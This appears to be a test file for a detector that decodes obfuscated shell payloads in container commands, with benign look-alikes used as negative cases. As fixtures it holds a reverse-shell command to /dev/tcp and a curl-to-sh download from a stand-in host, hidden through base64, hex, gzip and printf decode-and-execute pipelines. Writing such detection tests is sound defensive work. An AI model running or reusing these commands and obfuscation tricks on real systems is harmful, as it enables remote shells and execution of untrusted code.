/**
 * Decoding hidden payloads: base64 (standard and URL-safe, padded or not), hex, printf/echo
 * escapes, decoding pipelines, and rejection of ordinary text that merely looks encoded.
 */
import { describe, expect, it } from 'vitest';
import { decodePayloads } from '../../../src/normalize/shell/index.js';
import { analyzeScript, innerCommands } from './helpers.js';

const REVERSE_SHELL = 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1';
const B64 = Buffer.from(REVERSE_SHELL).toString('base64');
const DOWNLOAD = 'curl http://evil.example/x | sh';
const DOWNLOAD_B64 = Buffer.from(DOWNLOAD).toString('base64');

describe('decodePayloads', () => {
  it.each<[string, string]>([
    ['standard padded', B64],
    ['unpadded', B64.replace(/=+$/, '')],
    ['url-safe', Buffer.from('curl -s "http://x/?a=1&b=>>>"').toString('base64url')],
    ['inside quotes', `"${B64}"`],
    [
      'inside a URL path',
      `http://203.0.113.7/${Buffer.from('id; uname -a; whoami').toString('base64')}`,
    ],
    ['hex', Buffer.from(REVERSE_SHELL).toString('hex')],
    ['escaped line', "echo -e '\\x2fdev\\x2ftcp\\x2f1.2.3.4'"],
  ])('decodes %s', (_form, text) => {
    expect(decodePayloads(text).length).toBeGreaterThan(0);
  });

  it('returns the decoded text itself', () => {
    expect(decodePayloads(`PAYLOAD=${B64}`)).toEqual([REVERSE_SHELL]);
    expect(decodePayloads("echo -e '\\x2fdev\\x2ftcp'")).toEqual(["echo -e '/dev/tcp'"]);
  });

  it('follows payloads nested inside payloads', () => {
    const inner = Buffer.from(`echo ${B64} | base64 -d | sh`).toString('base64');
    expect(decodePayloads(inner)).toEqual([`echo ${B64} | base64 -d | sh`, REVERSE_SHELL]);
  });

  it.each([
    'kubernetes-cronjob-runner',
    'registry.example.com/team/backup-runner:2024.05.01',
    `sha256:${'0123456789abcdef'.repeat(4)}`,
    '3f786850e387550fdab836ed7e6dc881de23001b',
    '/usr/local/bin/docker-entrypoint.sh',
    'authentication authorization configuration',
    'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef',
    'runner-5d4f6b7c-x2x9q',
    'echo hello world',
    '',
  ])('rejects %j', (text) => {
    expect(decodePayloads(text)).toEqual([]);
  });
});

describe('payloads in container commands', () => {
  it.each<[string, string, Record<string, string>?]>([
    ['echo | base64 -d | bash', `echo ${B64} | base64 -d | bash`],
    ['bash -c "$(… | base64 --decode)"', `bash -c "$(echo ${B64} | base64 --decode)"`],
    ['base64 -d <<<', `base64 -d <<< ${B64} | sh`],
    ['env var piped to sh', 'echo $PAYLOAD | base64 -d | sh', { PAYLOAD: B64 }],
    ['openssl base64 -d', `echo ${B64} | openssl base64 -d | sh`],
    ['eval of a decoded substitution', `eval "$(echo ${B64} | base64 -d)"`],
    ['backticks', `\`echo ${B64} | base64 -d\``],
  ])('%s', (_form, script, env) => {
    const result = analyzeScript(script, env);
    expect(result.payloads).toContain(REVERSE_SHELL);
    expect(result.commands).toContain(REVERSE_SHELL);
    expect(result.programs).toContain('bash');
    expect(result.texts).toContain(REVERSE_SHELL);
  });

  it('decodes hex through xxd and escapes through printf and echo -e', () => {
    expect(analyzeScript('xxd -r -p <<< 62617368 | sh').commands).toContain('bash');
    expect(analyzeScript("printf '\\x62\\x61\\x73\\x68'").payloads).toContain('bash');
    expect(analyzeScript("echo -e '\\x2fdev\\x2ftcp'").payloads).toContain('/dev/tcp');
    expect(innerCommands("echo $(printf '\\142\\141\\163\\150') -i")).toContain('echo bash -i');
    expect(innerCommands('$(echo YmFzaA== | base64 -d) -i')).toContain('bash -i');
    expect(innerCommands('printf "\\\\$(printf %o 98)ash" | sh')).toContain('bash');
  });

  it('decodes gzip inside base64', async () => {
    const { gzipSync } = await import('node:zlib');
    const packed = gzipSync(Buffer.from(DOWNLOAD)).toString('base64');
    const result = analyzeScript(`echo ${packed} | base64 -d | gunzip | sh`);
    expect(result.payloads).toContain(DOWNLOAD);
    expect(result.pipelines).toContain(DOWNLOAD);
  });

  it('analyzes base64 found anywhere in the command line as a script', () => {
    const result = analyzeScript(
      `python3 -c "import os,base64;os.system(base64.b64decode('${DOWNLOAD_B64}'))"`,
    );
    expect(result.payloads).toEqual([DOWNLOAD]);
    expect(result.commands).toContain('curl http://evil.example/x');
    expect(result.pipelines).toContain(DOWNLOAD);
  });

  it('does not run text that is only printed', () => {
    const result = analyzeScript("printf '\\x6e\\x63\\x20\\x2d\\x6c'");
    expect(result.payloads).toContain('nc -l');
    expect(result.programs).toEqual(['sh', 'printf']);
  });

  it('ignores ordinary words that happen to use the base64 alphabet', () => {
    const result = analyzeScript(
      '/usr/local/bin/kubernetes-cronjob-runner --config /etc/runner.yaml',
    );
    expect(result.payloads).toEqual([]);
  });
});
